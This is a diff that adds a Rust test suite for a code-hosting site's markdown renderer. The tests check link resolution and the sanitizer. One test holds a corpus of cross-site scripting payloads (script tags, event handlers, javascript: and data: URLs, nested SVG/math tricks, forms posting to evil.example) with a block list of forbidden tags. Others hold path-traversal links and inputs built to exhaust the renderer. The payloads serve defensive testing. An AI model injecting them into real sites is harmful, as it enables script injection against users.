@@ -1,0 +1,275 @@
+use std::time::{Duration, Instant};
+
+use hearth_core::{
+    RepositoryKind,
+    urls::{RepositoryUrls, Revision},
+};
+
+use super::*;
+
+fn comment() -> Links {
+    Links {
+        repository: Some(RepositoryUrls::new(RepositoryKind::Code, "mei", "llm")),
+        known: Known {
+            people: [("bob".to_owned(), "Bob".parse().unwrap())].into(),
+            issues: [12].into(),
+            commits: [("1234abc".to_owned(), "1234abc".repeat(6)[..40].to_owned())].into(),
+        },
+        ..Links::default()
+    }
+}
+
+fn readme() -> Links {
+    Links {
+        base: Some(Base { revision: Revision::Branch("main".into()), folder: "docs/en".into() }),
+        is_file: true,
+        ..comment()
+    }
+}
+
+fn drawn(text: &str) -> String {
+    render(text, &comment())
+}
+
+#[test]
+fn github_markdown_is_drawn() {
+    assert!(drawn("a | b\n--|:-:\n1 | 2").contains("<td align=\"center\">2</td>"));
+    assert!(drawn("~~old~~").contains("<del>old</del>"));
+    assert!(drawn("https://example.org/x").contains("href=\"https://example.org/x\""));
+    assert!(drawn("a[^1]\n\n[^1]: note").contains("class=\"footnotes\""));
+    let tasks = drawn("- [x] done\n- [ ] open");
+    assert_eq!(tasks.matches("type=\"checkbox\"").count(), 2, "{tasks}");
+    assert_eq!(tasks.matches("checked").count(), 1, "{tasks}");
+    assert!(drawn("> [!NOTE]\n> hello").contains("markdown-alert-note"));
+    assert!(drawn("**加粗。**后面").contains("<strong>加粗。</strong>"));
+}
+
+#[test]
+fn people_issues_and_commits_that_exist_are_linked() {
+    assert!(drawn("hi @bob, see").contains("<a class=\"mention\" href=\"/Bob\""));
+    assert!(drawn("fixes #12.").contains("<a class=\"reference\" href=\"/mei/llm/issues/12\""));
+    let html = drawn("in 1234abc now");
+    assert!(html.contains(&format!("href=\"/mei/llm/commit/{}\"", &"1234abc".repeat(6)[..40])), "{html}");
+    assert!(html.ends_with(" now</p>\n") && html.starts_with("<p>in "), "{html}");
+    let both = drawn("@bob @bob 和 @bob");
+    assert_eq!(both.matches("mention").count(), 3, "{both}");
+}
+
+#[test]
+fn what_does_not_exist_stays_text() {
+    for text in ["@nobody", "#13", "abcdef1", "x@bob", "#12a", "&#12;", "a#12", "/@bob", "`@bob`", "    @bob"]
+    {
+        assert!(!drawn(text).contains("<a"), "{text}: {}", drawn(text));
+    }
+    assert!(!drawn("```\n@bob #12\n```").contains("<a"));
+    assert_eq!(drawn("[@bob](https://example.org)").matches("<a").count(), 1);
+}
+
+#[test]
+fn references_are_found_before_they_are_known() {
+    let found = References::of("@Mei-Lin. @a_b, (#3) #4 deadbee 12345678 é#5 数@x");
+    assert_eq!(found.people.into_iter().collect::<Vec<_>>(), ["a_b", "mei-lin", "x"]);
+    assert_eq!(found.issues.into_iter().collect::<Vec<_>>(), [3, 4, 5]);
+    assert_eq!(found.commits.into_iter().collect::<Vec<_>>(), ["12345678", "deadbee"]);
+    let many: String = (0..1000).map(|n| format!("#{n} @u{n} ")).collect();
+    assert!(References::of(&many).issues.len() <= 100);
+}
+
+#[test]
+fn links_of_a_file_lead_to_its_revision() {
+    let html = |text: &str| render(text, &readme());
+    assert!(html("[a](a.md#x)").contains("href=\"/mei/llm/src/branch/main/docs/en/a.md#x\""));
+    assert!(html("[a](../b%20c.md)").contains("href=\"/mei/llm/src/branch/main/docs/b%20c.md\""));
+    assert!(html("[a](/LICENSE)").contains("href=\"/mei/llm/src/branch/main/LICENSE\""));
+    assert!(html("![a](img/数.png)").contains("src=\"/mei/llm/raw/branch/main/docs/en/img/%E6%95%B0.png\""));
+    assert!(
+        html("<img src=\"x.png\" width=\"50%\">").contains("src=\"/mei/llm/raw/branch/main/docs/en/x.png\"")
+    );
+    assert!(!html("[a](../../../etc/passwd)").contains("href"));
+    assert!(!html("[a](//evil.example/x)").contains("href"));
+    assert!(html("---\nlicense: mit\n---\n# T").starts_with("<h1"));
+}
+
+#[test]
+fn pictures_of_other_hosts_are_not_asked_for() {
+    for text in [
+        "![x](https://evil.example/a.png)",
+        "<img src=http://evil.example/a.png>",
+        "![x](//evil.example/a.png)",
+    ] {
+        assert!(!drawn(text).contains("src="), "{}", drawn(text));
+    }
+}
+
+#[test]
+fn headings_have_ids_of_their_own_space() {
+    let html = drawn("# Hello World\n\n[up](#hello-world)");
+    assert!(html.contains("id=\"user-content-hello-world\""), "{html}");
+    assert!(html.contains("href=\"#user-content-hello-world\""), "{html}");
+    assert!(drawn("<p id=main>x</p>").contains("id=\"user-content-main\""));
+}
+
+#[test]
+fn an_address_ends_at_a_chinese_full_stop() {
+    let html = drawn("见 https://example.org/x。然后");
+    assert!(html.contains("href=\"https://example.org/x\"") && html.contains("。然后"), "{html}");
+}
+
+#[test]
+fn code_is_coloured() {
+    let html = drawn("```rust title=x\nfn main() {}\n```");
+    assert!(html.contains("<pre class=\"code\"><code><span class=\"hl-keyword\">fn </span>"), "{html}");
+    assert!(drawn("```nope\n<b>\n```").contains("&lt;b&gt;"));
+}
+
+#[test]
+fn nothing_that_runs_gets_through() {
+    let corpus = [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example></sCrIpT>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)><g/onload=alert(2)//<p>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\" javascript:alert(1)\">x</a>",
+        "<a href=\"java\nscript:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"vbscript:x\">x</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](<java\tscript:alert(1)>)",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "![x](javascript:alert(1))",
+        "<javascript:alert(1)>",
+        "<iframe src=https://evil.example></iframe>",
+        "<object data=x></object><embed src=x>",
+        "<form action=//evil.example><input name=password><button>ok</button></form>",
+        "<style>*{display:none}</style>",
+        "<p style=\"position:fixed;inset:0\">x</p>",
+        "<div class=\"flash overlay\">x</div>",
+        "<base href=//evil.example>",
+        "<meta http-equiv=refresh content=0;//evil.example>",
+        "<link rel=stylesheet href=//evil.example>",
+        "<video src=x onerror=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<a href=x target=_blank onclick=alert(1)>x</a>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<textarea></textarea><select><option>",
+        "```html\"><script>alert(1)</script>\nx\n```",
+        "[a]: javascript:alert(1)\n\n[a]",
+        "# <img src=x onerror=alert(1)>",
+        "|a|\n|-|\n|<script>x</script>|",
+        "@bob<script>alert(1)</script>#12",
+    ];
+    let forbidden = [
+        "<script",
+        "onerror",
+        "onload",
+        "ontoggle",
+        "onclick",
+        "href=\"javascript",
+        "href=\" javascript",
+        "href=\"java",
+        "vbscript:",
+        "href=\"data:",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<form",
+        "<button",
+        "<style",
+        "style=",
+        "overlay",
+        "<base",
+        "<meta",
+        "<link",
+        "<video",
+        "<svg",
+        "<math",
+        "<textarea",
+        "<select",
+        "target=",
+    ];
+    for links in [comment(), readme()] {
+        for text in corpus {
+            let html = render(text, &links);
+            let tags: String = html
+                .split('<')
+                .skip(1)
+                .filter_map(|tag| tag.split_once('>'))
+                .fold(String::new(), |all, (tag, _)| all + "<" + tag + ">");
+            for bad in forbidden {
+                assert!(!tags.to_ascii_lowercase().contains(bad), "{text} gave {html}");
+            }
+        }
+    }
+}
+
+#[test]
+fn inputs_are_boxes_that_nobody_can_change() {
+    let html = drawn("<input type=text name=password value=x>");
+    assert!(html.contains("type=\"checkbox\"") && html.contains("disabled"), "{html}");
+    assert!(!html.contains("name") && !html.contains("value"), "{html}");
+}
+
+#[test]
+fn links_of_people_are_not_followed_by_machines() {
+    assert!(drawn("[x](https://example.org)").contains("rel=\"nofollow noopener noreferrer\""));
+}
+
+#[test]
+fn texts_made_to_hurt_end_in_time() {
+    let bold: String = (0..5_000).map(|n| format!("<b id={n}>")).collect();
+    let corpus = [
+        ">".repeat(50_000),
+        "> ".repeat(50_000) + "a\n\nb",
+        "* ".repeat(50_000),
+        "[".repeat(100_000),
+        "![".repeat(50_000),
+        "*a **a ".repeat(20_000),
+        "`".repeat(100_000),
+        "`a".repeat(50_000),
+        "<div>".repeat(50_000),
+        format!("{bold}\n\n{}", "x\n\n".repeat(100_000)),
+        format!("a|{}\n-|{}\n", "|".repeat(2_000), "-|".repeat(2_000)) + &"a\n".repeat(20_000),
+        "[^a]".repeat(20_000) + "\n\n[^a]: x",
+        "a\n\n".repeat(300_000),
+        "&".repeat(500_000),
+        "@".repeat(500_000),
+        "#1 ".repeat(200_000),
+        "- x\n ".repeat(50_000),
+        "<!--".repeat(50_000),
+        "https://".repeat(50_000),
+        "_".repeat(100_000) + "a",
+        "```rust\n".to_owned() + &"\"".repeat(500_000),
+    ];
+    for text in corpus {
+        let started = Instant::now();
+        let drawn = drawn(&text);
+        let beginning: String = text.chars().take(20).collect();
+        assert!(started.elapsed() < Duration::from_secs(30), "{beginning}: {:?}", started.elapsed());
+        assert!(drawn.len() < 64 * MOST_BYTES, "{beginning}: {} bytes", drawn.len());
+    }
+}
+
+#[test]
+fn large_and_deep_texts_are_shown_as_they_are() {
+    assert!(drawn(&"a".repeat(MOST_BYTES + 1)).starts_with("<pre class=\"plain\">"));
+    assert!(drawn(&format!("{}<b>", "> ".repeat(500))).contains("&lt;b&gt;</pre>"));
+}
+
+#[test]
+fn an_excerpt_is_one_line_of_words() {
+    assert_eq!(excerpt("# Hi\n\nsome **bold** `code`\n- a <b>x</b>", 50), "Hi some bold code a x");
+    assert_eq!(excerpt("一二三四五", 3), "一二三…");
+}
+
+#[tokio::test]
+async fn a_text_is_drawn_once() {
+    let first = draw("**x**".into(), comment()).await;
+    assert_eq!(&*first, "<p><strong>x</strong></p>\n");
+    assert!(Arc::ptr_eq(&first, &draw("**x**".into(), comment()).await));
+    assert!(!Arc::ptr_eq(&first, &draw("**x**".into(), readme()).await));
+}
